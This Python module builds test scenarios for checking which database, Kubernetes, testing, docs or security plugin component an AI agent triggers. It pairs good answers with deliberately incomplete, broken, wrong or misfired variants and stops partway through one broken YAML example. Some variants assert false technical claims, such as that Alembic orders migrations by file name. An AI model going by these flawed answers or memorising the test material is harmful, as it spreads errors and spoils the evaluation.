"""Material for ``plugin_triggers``: plugins, their components and scenario templates.

A ``Template`` is one kind of user request for one expected component. It has query
phrasings, slot sets (table names, pods, files, ...), the tool calls the agent makes and the
good final answer, plus optional flawed variants: ``incomplete`` (misses part of the
request), ``broken`` (a code block does not parse), ``wrong`` (a technical error) and
``misfire`` (another component handled the request). In tool captures the pseudo tool
``@invoke`` stands for the record that shows which component ran (a ``Skill``,
``SlashCommand``, ``Task`` or ``Hook`` call); MCP tools show up under their own tool name.
"""

# Tool outputs such as query plans are kept verbatim, so some lines exceed the limit.
# ruff: noqa: E501

from __future__ import annotations

from dataclasses import dataclass, replace

from ._text import block, prose


@dataclass(frozen=True)
class Component:
    name: str
    type: str
    maturity: str


@dataclass(frozen=True)
class Capture:
    tool: str
    input: str
    output: str


@dataclass(frozen=True)
class Variant:
    response: str
    note: str


@dataclass(frozen=True)
class Misfire:
    component: str
    tools: tuple[Capture, ...]
    response: str
    correct: bool
    note: str


@dataclass(frozen=True)
class Template:
    expected: str
    complexity: str
    phrasings: tuple[str, ...]
    slots: tuple[dict[str, str], ...]
    tools: tuple[Capture, ...]
    good: str
    incomplete: Variant | None = None
    broken: Variant | None = None
    wrong: Variant | None = None
    misfire: Misfire | None = None


COMPONENTS: dict[str, Component] = {
    c.name: c
    for c in [
        Component("db-toolkit:migrate-skill", "skill", "stable"),
        Component("db-toolkit:query-explain", "command", "stable"),
        Component("db-toolkit:schema-agent", "agent", "beta"),
        Component("db-toolkit:pg-query", "mcp_tool", "beta"),
        Component("k8s-helper:debug-pod-skill", "skill", "stable"),
        Component("k8s-helper:manifest-gen", "command", "stable"),
        Component("k8s-helper:rollout-agent", "agent", "experimental"),
        Component("k8s-helper:kubectl", "mcp_tool", "beta"),
        Component("test-runner:run-tests", "command", "stable"),
        Component("test-runner:flaky-triage", "skill", "beta"),
        Component("test-runner:coverage-hook", "hook", "stable"),
        Component("test-runner:write-tests-skill", "skill", "stable"),
        Component("docs-writer:docstring-skill", "skill", "stable"),
        Component("docs-writer:readme-agent", "agent", "beta"),
        Component("docs-writer:changelog-command", "command", "stable"),
        Component("docs-writer:adr-skill", "skill", "experimental"),
        Component("security-scan:secrets-hook", "hook", "stable"),
        Component("security-scan:dep-audit", "command", "stable"),
        Component("security-scan:sast-skill", "skill", "beta"),
        Component("security-scan:threat-model-agent", "agent", "experimental"),
    ]
}

INVOKE_TOOL: dict[str, str] = {
    "skill": "Skill",
    "command": "SlashCommand",
    "agent": "Task",
    "hook": "Hook",
}


def cap(tool: str, input: str, output: str) -> Capture:
    return Capture(tool, block(input), block(output))


def var(response: str, note: str) -> Variant:
    return Variant(prose(response), note)


def _t(
    expected: str,
    complexity: str,
    phrasings: tuple[str, ...],
    slots: tuple[dict[str, str], ...],
    tools: tuple[Capture, ...],
    good: str,
    **variants: Variant | Misfire | None,
) -> Template:
    misfire = variants.get("misfire")
    if isinstance(misfire, Misfire):
        variants["misfire"] = replace(misfire, response=prose(misfire.response))
    return Template(
        expected,
        complexity,
        tuple(prose(p) for p in phrasings),
        slots,
        tools,
        prose(good),
        **variants,  # type: ignore[arg-type]
    )


TEMPLATES: list[Template] = [
    # ================================================================== db-toolkit
    _t(
        "db-toolkit:migrate-skill",
        "simple",
        (
            "Add a nullable `{col}` column to `{table}` and write the Alembic migration for it.",
            "I need `{table}.{col}` ({sqltype}, nullable). Can you generate the migration?",
            "create an alembic migration that adds {col} to the {table} table, nullable for now",
        ),
        (
            {
                "table": "invoices",
                "col": "paid_at",
                "coltype": "sa.DateTime(timezone=True)",
                "sqltype": "timestamptz",
                "prev": "8f2c1a9d4b7e",
                "prev_msg": "add invoice currency",
                "rev": "c41d7e2f9a10",
            },
            {
                "table": "customers",
                "col": "tax_id",
                "coltype": "sa.String(length=32)",
                "sqltype": "varchar(32)",
                "prev": "1b9e44d0c2aa",
                "prev_msg": "customer soft delete",
                "rev": "5e0a7b3c8d21",
            },
            {
                "table": "shipments",
                "col": "carrier_ref",
                "coltype": "sa.String(length=64)",
                "sqltype": "varchar(64)",
                "prev": "e7d3a0b91f45",
                "prev_msg": "shipments status enum",
                "rev": "2a6c9f03be17",
            },
            {
                "table": "subscriptions",
                "col": "cancel_reason",
                "coltype": "sa.Text()",
                "sqltype": "text",
                "prev": "44b0e2c7d9f3",
                "prev_msg": "subscription periods",
                "rev": "9d1f6a2e5c08",
            },
        ),
        (
            cap("@invoke", "{component}", "Loaded skill {component}"),
            cap("Bash", "alembic heads", "{prev} (head)"),
            cap(
                "Read",
                "migrations/versions/{prev}_{prev_msg}.py",
                '''
                """{prev_msg}

                Revision ID: {prev}
                Revises: 3a7f0e1c5b92
                Create Date: 2026-09-30 14:12:08.331245

                """
                import sqlalchemy as sa
                from alembic import op

                revision = "{prev}"
                down_revision = "3a7f0e1c5b92"
                ''',
            ),
        ),
        '''
        Here's the migration. It's additive and the column is nullable, so it can run before
        the code that uses it is deployed.

        ```python
        """add {table}.{col}

        Revision ID: {rev}
        Revises: {prev}
        """

        import sqlalchemy as sa
        from alembic import op

        revision = "{rev}"
        down_revision = "{prev}"
        branch_labels = None
        depends_on = None


        def upgrade() -> None:
            op.add_column("{table}", sa.Column("{col}", {coltype}, nullable=True))


        def downgrade() -> None:
            op.drop_column("{table}", "{col}")
        ```

        Save it as `migrations/versions/{rev}_add_{table}_{col}.py` and apply it with
        `alembic upgrade head`. Adding a nullable column without a default is a catalog-only
        change in Postgres, so it only needs a brief lock on `{table}`.
        ''',
        incomplete=var(
            '''
            ```python
            """add {table}.{col}"""

            import sqlalchemy as sa
            from alembic import op

            revision = "{rev}"
            down_revision = "{prev}"


            def upgrade() -> None:
                op.add_column("{table}", sa.Column("{col}", {coltype}, nullable=True))


            def downgrade() -> None:
                pass
            ```
            ''',
            "downgrade() is a no-op and there is no file name or instruction to apply it",
        ),
        broken=var(
            '''
            Here's the migration:

            ```python
            """add {table}.{col}"""

            import sqlalchemy as sa
            from alembic import op

            revision = "{rev}"
            down_revision = "{prev}"


            def upgrade() -> None:
                op.add_column("{table}", sa.Column("{col}", {coltype}, nullable=True)


            def downgrade() -> None:
                op.drop_column("{table}", "{col}")
            ```

            Run `alembic upgrade head` to apply it.
            ''',
            "unbalanced parenthesis in upgrade(), the file does not parse",
        ),
        wrong=var(
            '''
            ```python
            """add {table}.{col}"""

            import sqlalchemy as sa
            from alembic import op

            revision = "{rev}"
            down_revision = None


            def upgrade() -> None:
                op.add_column("{table}", sa.Column("{col}", {coltype}, nullable=True))


            def downgrade() -> None:
                op.drop_column("{table}", "{col}")
            ```

            `down_revision` can stay `None`; Alembic orders migrations by file name, so this
            one runs after `{prev}` automatically.
            ''',
            "down_revision=None creates a second head; Alembic does not order by file name",
        ),
    ),
    _t(
        "db-toolkit:migrate-skill",
        "edge_case",
        (
            "Queries filtering `{table}` by `{col}` are slow in prod. Add an index for it.",
            "can you add an index on {table}.{col}? the table has ~{rows}M rows in production",
            "We keep filtering {table} on {col} and it's slow. Index please, as a migration.",
        ),
        (
            {
                "table": "order_items",
                "col": "order_id",
                "rows": "60",
                "per_worker": "19811204",
                "prev": "b3e1",
                "rev": "c9a4",
            },
            {
                "table": "events",
                "col": "account_id",
                "rows": "210",
                "per_worker": "69904113",
                "prev": "0d7f",
                "rev": "6e2b",
            },
            {
                "table": "payments",
                "col": "invoice_id",
                "rows": "30",
                "per_worker": "9871420",
                "prev": "71aa",
                "rev": "f5c3",
            },
            {
                "table": "audit_log",
                "col": "actor_id",
                "rows": "95",
                "per_worker": "31497731",
                "prev": "a8d2",
                "rev": "3b6e",
            },
        ),
        (
            cap("@invoke", "{component}", "Loaded skill {component}"),
            cap("Bash", "alembic heads", "{prev}9e0c71f2 (head)"),
        ),
        '''
        A plain `CREATE INDEX` blocks writes to `{table}` for the whole build, which at ~{rows}M
        rows can take minutes. Build it concurrently instead; Postgres can't do that inside a
        transaction, so the migration uses an autocommit block:

        ```python
        """index {table}.{col}"""

        from alembic import op

        revision = "{rev}1d5b08a7"
        down_revision = "{prev}9e0c71f2"


        def upgrade() -> None:
            with op.get_context().autocommit_block():
                op.create_index(
                    "ix_{table}_{col}",
                    "{table}",
                    ["{col}"],
                    postgresql_concurrently=True,
                    if_not_exists=True,
                )


        def downgrade() -> None:
            with op.get_context().autocommit_block():
                op.drop_index(
                    "ix_{table}_{col}",
                    table_name="{table}",
                    postgresql_concurrently=True,
                    if_exists=True,
                )
        ```

        If the build fails halfway, Postgres leaves an INVALID index behind; drop it and rerun
        the migration. `if_not_exists`/`if_exists` need Alembic 1.12 or later.
        ''',
        wrong=var(
            '''
            ```python
            """index {table}.{col}"""

            from alembic import op

            revision = "{rev}1d5b08a7"
            down_revision = "{prev}9e0c71f2"


            def upgrade() -> None:
                op.create_index("ix_{table}_{col}", "{table}", ["{col}"])


            def downgrade() -> None:
                op.drop_index("ix_{table}_{col}", table_name="{table}")
            ```

            Postgres builds indexes online by default, so this won't block writes to `{table}`
            even at ~{rows}M rows.
            ''',
            "a plain CREATE INDEX blocks writes for the duration of the build",
        ),
        incomplete=var(
            """
            Add the index concurrently so writes aren't blocked:

            ```sql
            CREATE INDEX CONCURRENTLY ix_{table}_{col} ON {table} ({col});
            ```
            """,
            "asked for a migration, got a bare SQL statement without the Alembic file",
        ),
        misfire=Misfire(
            "db-toolkit:query-explain",
            (
                cap(
                    "@invoke",
                    "/{component} SELECT * FROM {table} WHERE {col} = 4211",
                    "Running EXPLAIN (ANALYZE, BUFFERS) on the replica",
                ),
                cap(
                    "mcp__db-toolkit__pg-query",
                    "EXPLAIN (ANALYZE, BUFFERS) SELECT * FROM {table} WHERE {col} = 4211;",
                    """
                    Gather  (cost=1000.00..912345.10 rows=38 width=96) (actual time=0.912..3127.440 rows=41 loops=1)
                      Workers Planned: 2
                      Workers Launched: 2
                      ->  Parallel Seq Scan on {table}  (cost=0.00..911341.30 rows=16 width=96) (actual time=1021.3..3119.8 rows=14 loops=3)
                            Filter: ({col} = 4211)
                            Rows Removed by Filter: {per_worker}
                    Planning Time: 0.144 ms
                    Execution Time: 3127.502 ms
                    """,
                ),
            ),
            """
            The plan shows a parallel sequential scan over all of `{table}`: about {rows}M rows
            are read and discarded to return 41. There is no index on `{col}`, so every lookup
            pays for a full scan. An index would turn this into an index scan returning in a
            few milliseconds:

            ```sql
            CREATE INDEX CONCURRENTLY ix_{table}_{col} ON {table} ({col});
            ```
            """,
            True,
            "the explain command ran instead of the migration skill; no migration was written",
        ),
    ),
    _t(
        "db-toolkit:query-explain",
        "simple",
        (
            "/explain why is this slow? `SELECT id, status, created_at FROM {table} WHERE "
            "{col} = {val} ORDER BY created_at DESC LIMIT 20`",
            "This takes ~3 s in prod, can you explain the plan? `SELECT id, status, created_at "
            "FROM {table} WHERE {col} = {val} ORDER BY created_at DESC LIMIT 20`",
        ),
        (
            {"table": "orders", "col": "customer_id", "val": "48213", "removed": "3914207"},
            {"table": "tickets", "col": "assignee_id", "val": "912", "removed": "2270456"},
            {"table": "events", "col": "account_id", "val": "77031", "removed": "5120338"},
        ),
        (
            cap(
                "@invoke",
                "/{component} SELECT id, status, created_at FROM {table} WHERE {col} = {val} "
                "ORDER BY created_at DESC LIMIT 20",
                "Running EXPLAIN (ANALYZE, BUFFERS) on the replica",
            ),
            cap(
                "mcp__db-toolkit__pg-query",
                "EXPLAIN (ANALYZE, BUFFERS) SELECT id, status, created_at FROM {table} "
                "WHERE {col} = {val} ORDER BY created_at DESC LIMIT 20;",
                """
                Limit  (cost=0.56..8123.40 rows=20 width=28) (actual time=2.114..2843.002 rows=20 loops=1)
                  Buffers: shared hit=41877 read=96310
                  ->  Index Scan Backward using {table}_created_at_idx on {table}  (cost=0.56..1834412.91 rows=4517 width=28) (actual time=2.112..2842.981 rows=20 loops=1)
                        Filter: ({col} = {val})
                        Rows Removed by Filter: {removed}
                        Buffers: shared hit=41877 read=96310
                Planning Time: 0.187 ms
                Execution Time: 2843.117 ms
                """,
            ),
        ),
        """
        The planner chose to walk `{table}_created_at_idx` backwards (newest first) and filter
        each row on `{col} = {val}`, hoping to find 20 matches quickly. This value is rare
        among recent rows, so it read and discarded {removed} rows before it had 20, mostly
        from disk (`read=96310` buffers).

        An index that matches both the filter and the sort lets Postgres jump straight to this
        {col}'s newest rows:

        ```sql
        CREATE INDEX CONCURRENTLY {table}_{col}_created_at_idx
            ON {table} ({col}, created_at DESC);
        ```

        With it the query becomes an index scan reading ~20 rows, typically well under a
        millisecond. If there is already a single-column index on `{col}`, the new one makes it
        redundant; drop it after checking `pg_stat_user_indexes`.
        """,
        incomplete=var(
            """
            The planner walks `{table}_created_at_idx` backwards and filters on
            `{col} = {val}`, discarding {removed} rows before it finds 20 matches. That's where
            the 2.8 seconds go.
            """,
            "explains the plan but proposes no fix",
        ),
        wrong=var(
            """
            Most of the time goes into sorting: the `ORDER BY created_at DESC` sorts all
            matching rows in memory and spills to disk. Increase `work_mem` for this query:

            ```sql
            SET work_mem = '256MB';
            ```

            That should bring it under 100 ms.
            """,
            "there is no sort node in the plan; the cost is the filtered backward index scan",
        ),
        misfire=Misfire(
            "db-toolkit:pg-query",
            (
                cap(
                    "mcp__db-toolkit__pg-query",
                    "SELECT id, status, created_at FROM {table} WHERE {col} = {val} "
                    "ORDER BY created_at DESC LIMIT 20;",
                    """
                     id      | status    | created_at
                    ---------+-----------+------------------------
                     9912410 | open      | 2026-10-02 08:14:51+00
                     9887153 | closed    | 2026-09-29 16:02:07+00
                     9850022 | closed    | 2026-09-25 11:40:33+00
                    (20 rows)
                    """,
                ),
            ),
            """
            The query returns 20 rows; the most recent is id 9912410 (open, 2 October). It ran
            successfully against the replica.
            """,
            True,
            "the query was executed instead of explained; the slowness is not addressed",
        ),
    ),
    _t(
        "db-toolkit:schema-agent",
        "complex",
        (
            "Design the Postgres tables for {thing}.",
            "I'm starting {thing_short}. Can you propose a schema?",
        ),
        (
            {
                "thing": "meeting room bookings: rooms, bookings, and no double-booking",
                "thing_short": "a meeting-room booking service",
                "ddl": """CREATE EXTENSION IF NOT EXISTS btree_gist;

CREATE TABLE rooms (
    id       bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
    name     text NOT NULL UNIQUE,
    capacity integer NOT NULL CHECK (capacity > 0)
);

CREATE TABLE bookings (
    id         bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
    room_id    bigint NOT NULL REFERENCES rooms (id),
    booked_by  bigint NOT NULL REFERENCES users (id),
    during     tstzrange NOT NULL,
    created_at timestamptz NOT NULL DEFAULT now(),
    EXCLUDE USING gist (room_id WITH =, during WITH &&)
);

CREATE INDEX bookings_booked_by_idx ON bookings (booked_by);""",
                "ddl_broken": """CREATE TABLE rooms (
    id       bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
    name     text NOT NULL UNIQUE
    capacity integer NOT NULL CHECK (capacity > 0)
);

CREATE TABLE bookings (
    id        bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
    room_id   bigint NOT NULL REFERENCES rooms (id),
    during    tstzrange NOT NULL,
    EXCLUDE USING gist (room_id WITH =, during WITH &&)
);""",
                "key_point": "The exclusion constraint is what prevents double-booking: two "
                "bookings for the same room can't have overlapping ranges, enforced by the "
                "database even under concurrent inserts. It needs `btree_gist` for the `=` "
                "on `room_id`.",
                "missing": "no constraint prevents overlapping bookings",
            },
            {
                "thing": "a support ticket system with tickets, comments and tags",
                "thing_short": "a small support-ticket tool",
                "ddl": """CREATE TABLE tickets (
    id          bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
    subject     text NOT NULL,
    status      text NOT NULL DEFAULT 'open'
                CHECK (status IN ('open', 'pending', 'solved', 'closed')),
    requester_id bigint NOT NULL REFERENCES users (id),
    assignee_id  bigint REFERENCES users (id),  -- NULL = unassigned
    created_at  timestamptz NOT NULL DEFAULT now()
);

CREATE TABLE ticket_comments (
    id         bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
    ticket_id  bigint NOT NULL REFERENCES tickets (id) ON DELETE CASCADE,
    author_id  bigint NOT NULL REFERENCES users (id),
    body       text NOT NULL,
    is_internal boolean NOT NULL DEFAULT false,
    created_at timestamptz NOT NULL DEFAULT now()
);

CREATE TABLE tags (
    id   bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
    name text NOT NULL UNIQUE
);

CREATE TABLE ticket_tags (
    ticket_id bigint NOT NULL REFERENCES tickets (id) ON DELETE CASCADE,
    tag_id    bigint NOT NULL REFERENCES tags (id),
    PRIMARY KEY (ticket_id, tag_id)
);

CREATE INDEX ticket_comments_ticket_id_idx ON ticket_comments (ticket_id, created_at);
CREATE INDEX tickets_assignee_status_idx ON tickets (assignee_id, status);
CREATE INDEX ticket_tags_tag_id_idx ON ticket_tags (tag_id);""",
                "ddl_broken": """CREATE TABLE tickets (
    id          bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
    subject     text NOT NULL,
    status      text NOT NULL DEFAULT 'open',
    assignee_id bigint REFERENCES users (id),
);

CREATE TABLE ticket_comments (
    id        bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
    ticket_id bigint NOT NULL REFERENCES tickets (id) ON DELETE CASCADE,
    body      text NOT NULL
);""",
                "key_point": "Internal notes live in `ticket_comments` with `is_internal`, so "
                "the customer-facing thread is a simple filter. The composite index on "
                '`(assignee_id, status)` serves the agent\'s "my open tickets" view.',
                "missing": "no tags tables and no indexes on the foreign keys",
            },
            {
                "thing": "a loyalty program: members, point transactions and rewards",
                "thing_short": "a loyalty-points program",
                "ddl": """CREATE TABLE members (
    id         bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
    user_id    bigint NOT NULL UNIQUE REFERENCES users (id),
    tier       text NOT NULL DEFAULT 'basic',
    joined_at  timestamptz NOT NULL DEFAULT now()
);

CREATE TABLE point_transactions (
    id          bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
    member_id   bigint NOT NULL REFERENCES members (id),
    delta       integer NOT NULL CHECK (delta <> 0),
    reason      text NOT NULL,  -- 'purchase', 'redemption', 'expiry', 'adjustment'
    order_id    bigint REFERENCES orders (id),  -- NULL for non-purchase entries
    created_at  timestamptz NOT NULL DEFAULT now()
);

CREATE TABLE rewards (
    id          bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
    name        text NOT NULL,
    cost_points integer NOT NULL CHECK (cost_points > 0),
    active      boolean NOT NULL DEFAULT true
);

CREATE INDEX point_transactions_member_idx ON point_transactions (member_id, created_at);""",
                "ddl_broken": """CREATE TABLE members (
    id        bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
    user_id   bigint NOT NULL UNIQUE REFERENCES users (id)
    tier      text NOT NULL DEFAULT 'basic'
);

CREATE TABLE point_transactions (
    id        bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
    member_id bigint NOT NULL REFERENCES members (id),
    delta     integer NOT NULL
);""",
                "key_point": "Points are an append-only ledger: the balance is "
                "`SUM(delta)` per member, which keeps a full audit trail and makes expiry and "
                "corrections just more rows. Cache the balance in a column later if the sum "
                "gets expensive.",
                "missing": "no rewards table and no link from transactions to orders",
            },
        ),
        (
            cap(
                "@invoke",
                "subagent_type: {component}\nprompt: Propose a Postgres schema for {thing}",
                "Agent finished after 3 tool uses",
            ),
            cap(
                "Bash",
                "psql \"$DATABASE_URL\" -c '\\dt'",
                """
                         List of relations
                 Schema |  Name  | Type  | Owner
                --------+--------+-------+-------
                 public | orders | table | app
                 public | users  | table | app
                (2 rows)
                """,
            ),
        ),
        """
        Here's a schema that fits next to your existing `users` and `orders` tables:

        ```sql
        {ddl}
        ```

        {key_point} All timestamps are `timestamptz`; nullable columns are commented with what
        NULL means.
        """,
        incomplete=var(
            """
            A minimal start:

            ```sql
            {ddl_broken}
            ```

            You can add the rest later.
            """,
            "{missing}; the DDL also has a syntax error",
        ),
        broken=var(
            """
            Here's the schema:

            ```sql
            {ddl_broken}
            ```

            {key_point}
            """,
            "the DDL does not parse (missing or trailing comma in a column list)",
        ),
    ),
    _t(
        "db-toolkit:pg-query",
        "simple",
        (
            "How many {entity} signed up in the last 7 days?",
            "quick one: number of new {entity} over the past week?",
        ),
        (
            {"entity": "users", "table": "users", "n": "1842", "prev": "1610"},
            {"entity": "trial accounts", "table": "accounts", "n": "377", "prev": "402"},
            {"entity": "customers", "table": "customers", "n": "96", "prev": "88"},
        ),
        (
            cap(
                "mcp__db-toolkit__pg-query",
                "SELECT count(*) FROM {table} WHERE created_at >= now() - interval '7 days';",
                """
                 count
                -------
                 {n}
                (1 row)
                """,
            ),
            cap(
                "mcp__db-toolkit__pg-query",
                "SELECT count(*) FROM {table} WHERE created_at >= now() - interval '14 days' "
                "AND created_at < now() - interval '7 days';",
                """
                 count
                -------
                 {prev}
                (1 row)
                """,
            ),
        ),
        """
        **{n}** {entity} signed up in the last 7 days (rolling window up to now), compared with
        {prev} in the 7 days before that.

        ```sql
        SELECT count(*) FROM {table} WHERE created_at >= now() - interval '7 days';
        ```

        The count is based on `created_at`, so {entity} who signed up and were later
        hard-deleted aren't included.
        """,
        wrong=var(
            """
            **{prev}** {entity} signed up in the last 7 days.

            ```sql
            SELECT count(*) FROM {table} WHERE created_at >= now() - interval '7 days';
            ```
            """,
            "reports the previous week's count ({prev}) instead of the last 7 days ({n})",
        ),
    ),
    # ================================================================== k8s-helper
    _t(
        "k8s-helper:debug-pod-skill",
        "complex",
        (
            "Pod `{pod}` in `{ns}` keeps restarting. Can you figure out why?",
            "{deploy} is in CrashLoopBackOff in {ns}, what's going on?",
            "why does {deploy} keep crashing in the {ns} namespace?",
        ),
        (
            {
                "deploy": "checkout-api",
                "pod": "checkout-api-7c9d8b6f4-x2k8p",
                "restarts": "14",
                "ns": "shop-prod",
                "log": (
                    "INFO  Loading product catalog into memory (412,331 items)\n"
                    "INFO  Catalog loaded, building search index"
                ),
                "describe": (
                    "    Last State:     Terminated\n"
                    "      Reason:       OOMKilled\n"
                    "      Exit Code:    137\n"
                    "    Restart Count:  14\n"
                    "    Limits:\n"
                    "      memory:  256Mi\n"
                    "    Requests:\n"
                    "      memory:  128Mi"
                ),
                "cause": "The container is being killed for exceeding its memory limit: "
                "`OOMKilled`, exit code 137, with a 256Mi limit. The logs stop right after it "
                "starts building the search index over 412k catalog items, so startup memory "
                "use is the problem, not a crash in the code.",
                "fix": """```yaml
resources:
  requests:
    memory: 512Mi
  limits:
    memory: 768Mi
```""",
                "fix_broken": """```yaml
resources:
  requests:
    memory: 512Mi
   limits:
    memory: 768Mi
```""",
                "fix_note": "Raise the limit (and the request, so the scheduler places it "
                "sensibly) in the Deployment's container spec:",
                "after": "Then check actual usage with `kubectl top pod -n shop-prod` after a "
                "day and tune. Longer term, building the index lazily or outside the pod would "
                "cut startup memory.",
                "wrong_cause": "Exit code 137 means the application segfaulted while building "
                "the search index, most likely a bug in a native extension. Pin the previous "
                "image tag until it's fixed.",
            },
            {
                "deploy": "billing-worker",
                "pod": "billing-worker-5f6b9c7d8-qm4tz",
                "restarts": "9",
                "ns": "payments",
                "log": (
                    "Traceback (most recent call last):\n"
                    '  File "/app/worker/settings.py", line 22, in <module>\n'
                    "    settings = Settings()\n"
                    "pydantic_core._pydantic_core.ValidationError: 1 validation error for "
                    "Settings\n"
                    "database_url\n"
                    "  Field required [type=missing, input_value={...}, input_type=dict]"
                ),
                "describe": (
                    "    Last State:     Terminated\n"
                    "      Reason:       Error\n"
                    "      Exit Code:    1\n"
                    "    Restart Count:  9\n"
                    "    Environment:\n"
                    "      QUEUE_URL:   <set to the key 'queue_url' in secret 'billing-env'>"
                ),
                "cause": "The worker exits at import time because `DATABASE_URL` isn't set: "
                "the settings model requires `database_url`, and the container only gets "
                "`QUEUE_URL` from the `billing-env` secret.",
                "fix": """```yaml
env:
  - name: QUEUE_URL
    valueFrom:
      secretKeyRef:
        name: billing-env
        key: queue_url
  - name: DATABASE_URL
    valueFrom:
      secretKeyRef:
        name: billing-env
        key: database_url
```""",
                "fix_broken": """```yaml
env:
  - name: QUEUE_URL
    valueFrom:
      secretKeyRef:
        name: billing-env
        key: queue_url
  - name: DATABASE_URL
     valueFrom:
      secretKeyRef:
        name: billing-env
        key: database_url
```""",
                "fix_note": "Add the variable to the container's env, from the same secret "
                "(check that the key exists with `kubectl get secret billing-env -n payments "
                "-o jsonpath='{.data}'`):",
                "after": "Apply it and the next restart should get past startup. If the "
                "secret doesn't have a `database_url` key yet, add it first.",
                "wrong_cause": "The worker can't reach the database: the traceback is a "
                "connection timeout from the Postgres driver. Check the NetworkPolicy in "
                "`payments` and allow egress to port 5432.",
            },
            {
                "deploy": "search-gateway",
                "pod": "search-gateway-6d4f5b8c9-7hjlw",
                "restarts": "6",
                "ns": "search",
                "log": (
                    "INFO:     Started server process [1]\n"
                    "INFO:     Waiting for application startup.\n"
                    "INFO:     Application startup complete.\n"
                    'INFO:     10.4.2.1:51234 - "GET /healthz HTTP/1.1" 404 Not Found\n'
                    'INFO:     10.4.2.1:51240 - "GET /healthz HTTP/1.1" 404 Not Found'
                ),
                "describe": (
                    "    Last State:     Terminated\n"
                    "      Reason:       Completed\n"
                    "      Exit Code:    0\n"
                    "    Liveness:   http-get http://:8000/healthz delay=10s period=10s\n"
                    "  Warning  Unhealthy  kubelet  Liveness probe failed: HTTP probe failed "
                    "with statuscode: 404\n"
                    "  Normal   Killing    kubelet  Container search-gateway failed liveness "
                    "probe, will be restarted"
                ),
                "cause": "The app starts fine, but the liveness probe requests `/healthz`, "
                "which returns 404, so the kubelet kills the container after three failed "
                "probes. The app's health route is probably `/health`.",
                "fix": """```yaml
livenessProbe:
  httpGet:
    path: /health
    port: 8000
  initialDelaySeconds: 10
  periodSeconds: 10
```""",
                "fix_broken": """```yaml
livenessProbe:
  httpGet:
    path: /health
    port: 8000
  initialDelaySeconds: 10
 periodSeconds: 10
```""",
                "fix_note": "Point the probe at the route the app actually serves (confirm "
                "with `kubectl exec` and `curl localhost:8000/health`):",
                "after": "Consider a separate readiness probe as well, so the pod stops "
                "receiving traffic before it's restarted.",
                "wrong_cause": "The container exits with code 0, so the process is finishing "
                "normally; the command in the Dockerfile probably runs a one-off script "
                "instead of the server. Change the CMD to start uvicorn.",
            },
        ),
        (
            cap("@invoke", "{component}", "Loaded skill {component}"),
            cap(
                "Bash",
                "kubectl get pods -n {ns} -l app={deploy}",
                """
                NAME        READY   STATUS             RESTARTS       AGE
                {pod}       0/1     CrashLoopBackOff   {restarts} (2m ago)    47m
                """,
            ),
            cap("Bash", "kubectl logs {pod} -n {ns} --previous --tail=20", "{log}"),
            cap("Bash", "kubectl describe pod {pod} -n {ns}", "{describe}"),
        ),
        """
        {cause}

        {fix_note}

        {fix}

        {after}
        """,
        incomplete=var(
            """
            {cause}
            """,
            "diagnoses the cause but gives no fix",
        ),
        broken=var(
            """
            {cause}

            {fix_note}

            {fix_broken}

            {after}
            """,
            "the YAML snippet has inconsistent indentation and does not parse",
        ),
        wrong=var(
            """
            {wrong_cause}
            """,
            "misreads the evidence in the captures",
        ),
    ),
    _t(
        "k8s-helper:manifest-gen",
        "simple",
        (
            "Generate a Deployment and Service for {app} (image `{image}`, port {port}) with 3 "
            "replicas and resource limits.",
            "/k8s-manifest {app} image={image} port={port} replicas=3",
            "I need k8s manifests for {app}: deployment + ClusterIP service, 3 replicas, port "
            "{port}, image {image}",
        ),
        (
            {
                "app": "invoice-renderer",
                "image": "registry.internal/invoice-renderer:1.8.2",
                "port": "8080",
                "cpu": "500m",
                "mem": "512Mi",
            },
            {
                "app": "notifications",
                "image": "registry.internal/notifications:4.2.0",
                "port": "3000",
                "cpu": "250m",
                "mem": "256Mi",
            },
            {
                "app": "geo-lookup",
                "image": "registry.internal/geo-lookup:0.9.14",
                "port": "9090",
                "cpu": "1",
                "mem": "1Gi",
            },
        ),
        (
            cap(
                "@invoke",
                "/{component} {app} image={image} port={port} replicas=3",
                "Generating manifests for {app}",
            ),
            cap(
                "Bash",
                "kubectl apply --dry-run=server -f k8s/{app}.yaml",
                """
                deployment.apps/{app} created (server dry run)
                service/{app} created (server dry run)
                """,
            ),
        ),
        """
        ```yaml
        apiVersion: apps/v1
        kind: Deployment
        metadata:
          name: {app}
          labels:
            app: {app}
        spec:
          replicas: 3
          selector:
            matchLabels:
              app: {app}
          template:
            metadata:
              labels:
                app: {app}
            spec:
              containers:
                - name: {app}
                  image: {image}
                  ports:
                    - containerPort: {port}
                  resources:
                    requests:
                      cpu: {cpu}
                      memory: {mem}
                    limits:
                      memory: {mem}
                  readinessProbe:
                    httpGet:
                      path: /health
                      port: {port}
        ---
        apiVersion: v1
        kind: Service
        metadata:
          name: {app}
        spec:
          type: ClusterIP
          selector:
            app: {app}
          ports:
            - port: 80
              targetPort: {port}
        ```

        Written to `k8s/{app}.yaml`; a server-side dry run accepted both objects. The memory
        limit equals the request, so the scheduler reserves everything the pod may use and it
        isn't the first to go under node memory pressure; there is deliberately no CPU limit,
        to avoid throttling. Adjust the readiness path if the app doesn't serve `/health`.
        """,
        incomplete=var(
            """
            ```yaml
            apiVersion: apps/v1
            kind: Deployment
            metadata:
              name: {app}
            spec:
              replicas: 3
              selector:
                matchLabels:
                  app: {app}
              template:
                metadata:
                  labels:
                    app: {app}
                spec:
                  containers:
                    - name: {app}
                      image: {image}
                      ports:
                        - containerPort: {port}
            ```
            """,
            "no Service and no resource requests/limits",
        ),
        broken=var(
            """
            ```yaml
            apiVersion: apps/v1
            kind: Deployment
            metadata:
              name: {app}
            spec:
              replicas: 3
              selector:
                matchLabels:
                  app: {app}
              template:
                metadata:
                  labels:
                    app: {app}
                spec:
                  containers:
                    - name: {app}
                      image: {image}
                      ports:
                        - containerPort: {port}
                       resources:
                        limits:
